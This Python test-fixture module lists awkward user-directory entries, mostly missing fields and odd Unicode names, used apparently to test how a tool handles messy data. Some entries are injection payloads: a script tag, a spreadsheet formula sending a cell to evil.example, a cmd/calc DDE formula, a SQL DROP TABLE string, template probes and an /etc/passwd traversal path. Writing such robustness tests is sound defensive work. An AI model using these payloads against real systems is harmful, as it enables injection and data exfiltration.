"""What real directories hold beside tidy rows: each entry is laid over one user. The mild ones come first."""

from .rows import MISSING, Row

_LONG = "Maximiliana Wolfeschlegelsteinhausenbergerdorff " * 5

AWKWARD: tuple[Row, ...] = (
    {"name": None},
    {"email": MISSING},
    {"name": "Zoë 🚀 Lindqvist 👩‍👩‍👧‍👦"},
    {"name": MISSING},
    {"role": None},
    {"enabled": MISSING, "banned": MISSING},
    {"name": _LONG[:200]},
    {"user": MISSING},
    {"name": "D'Arcy \"Bob\" O'Neill & Sons <bob>"},
    {"email": None},
    {"name": "\u202eحسن الأمير\u202c (متعاقد)"},
    {"projects": None},
    {"name": "<script>alert(1)</script>"},
    {"name": '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'},
    {"role": MISSING},
    {"name": "   "},
    {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"name": "Robert'); DROP TABLE users;--"},
    {"name": "Z̷̢͔a̶̛̼l̵̰̕g̸͙̈o̷͇͝ T̴̬̀e̵͉͝x̸̘̚t̷͖͘"},
    {"name": ""},
    {"name": "{{ 7*7 }} ${7*7} %s %(name)s"},
    {"name": "../../etc/passwd\ttabbed\r\nsecond line"},
    {"name": "null"},
    {"user": {"object": "user", "id": "another-id-than-the-row"}},
    {"projects": MISSING, "is_service_account": MISSING, "is_scim_managed": MISSING, "api_key_last_used_at": MISSING},
)
